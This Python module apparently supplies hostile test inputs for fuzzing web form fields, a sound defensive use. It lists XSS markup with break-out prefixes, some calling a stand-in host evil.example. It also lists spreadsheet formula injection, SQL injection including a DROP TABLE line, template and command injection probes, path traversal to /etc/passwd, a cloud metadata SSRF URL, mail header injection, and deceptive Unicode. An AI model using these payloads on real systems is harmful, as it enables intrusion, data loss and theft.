"""Three hundred things a form may be sent that mean more than words somewhere: to a browser, a
database, a template, a mail program, a spreadsheet or the eye."""

from collections import deque

_MARKUP = [
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<body onload={run}>",
    "<iframe src=javascript:{run}></iframe>",
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "<a href=javascript:{run}>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<object data=//evil.example/x.swf></object>",
    "<form action=//evil.example/><button>Send</button>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
]
_BREAK_OUT = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</bdi>",
    "</dd></dl>",
    "-->",
    "]]>",
    '" x="',
]
_FORMULAS = [
    f"{start}{formula}"
    for start in ("=", "+", "-", "@", "\t=", " =", "＝")
    for formula in (
        "1+1",
        "HYPERLINK('//evil.example','x')",
        "cmd|' /C calc'!A0",
        "IMPORTXML('//evil.example','//a')",
    )
]
_FOR_PROGRAMS = [
    "' OR 1=1 --",
    "'; DROP TABLE feedback_submission; --",
    "{{ request }}",
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%n",
    "%(x)s",
    "{0.__class__}",
    "$(sleep 5)",
    "`sleep 5`",
    "../../../../etc/passwd",
    "http://169.254.169.254/",
    "x\r\nBcc: everybody@evil.example",
    "x\nSet-Cookie: a=b",
    "x%0d%0aBcc: everybody@evil.example",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e309",
    "True",
]
_FOR_THE_EYE = [
    "\u202eevil\u202c",
    "\u2066evil\u2069",
    "\u200f\u200f",
    "a\u0301" * 20,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
    "\ufeff",
    "\u200b",
    "\u2028",
    "\u2029",
    "\x1b[31mred",
    "\x07",
    "\x7f",
    "\x85",
    "🎉" * 20,
    "👨‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "میرے بیٹے کو وہیل چیئر مل گئی",
    "ਮੇਰੇ ਪੁੱਤਰ",
    "મારો દીકરો",
    "Łódź ąęść",
    "كرسي متحرك",
    "کورسی بۆ کوڕەکەم",
    "İstanbul ı",
    "ﷺ" * 10,
    "\U0010fffd",
]

_TOO_LONG_SOMEWHERE = [
    "x" * length for length in (200, 201, 254, 255, 256, 1_000, 5_000, 5_001, 65_536, 1_000_000)
]
_NUL = ["\x00", "a\x00b", "\x00<script>", "name\x00@example.org"]
_CONTROLS = [chr(code) for code in range(1, 9)]

# What a string is after, and how: each field takes some of each kind. Markup is a kind for each
# way it tries to get out of where it stands.
BY_KIND = {
    **{
        f"markup after {escape or 'nothing'}": [
            escape + markup.format(run=f"document.title='ran-{number}-{place}'")
            for number, markup in enumerate(_MARKUP)
        ]
        for place, escape in enumerate(_BREAK_OUT)
    },
    "a formula": _FORMULAS,
    "code for a program": _FOR_PROGRAMS,
    "fools the eye": _FOR_THE_EYE,
    "control characters": _CONTROLS,
    "long": _TOO_LONG_SOMEWHERE,
    "nul": _NUL,
}
# Nothing keeps a NUL; how long a text may be, each field says itself.
KINDS_THAT_FIT = [kind for kind in BY_KIND if kind not in ("long", "nul")]

HOSTILE = [string for strings in BY_KIND.values() for string in strings]


class Deck:
    """Hands the strings out, kind by kind: none comes again before all others that fit have."""

    def __init__(self):
        self._piles = {kind: deque(BY_KIND[kind]) for kind in KINDS_THAT_FIT}
        self.handed_out = set()

    def next(self, kind, room):
        """Return a string of this kind for a field that holds `room` characters. What a form would
        take for nothing stands between two letters."""
        pile = self._piles[kind]
        string = next(string for string in pile if len(string) <= room)
        pile.remove(string)
        pile.append(string)
        self.handed_out.add(string)
        return string if string.strip() else f"a{string}b"
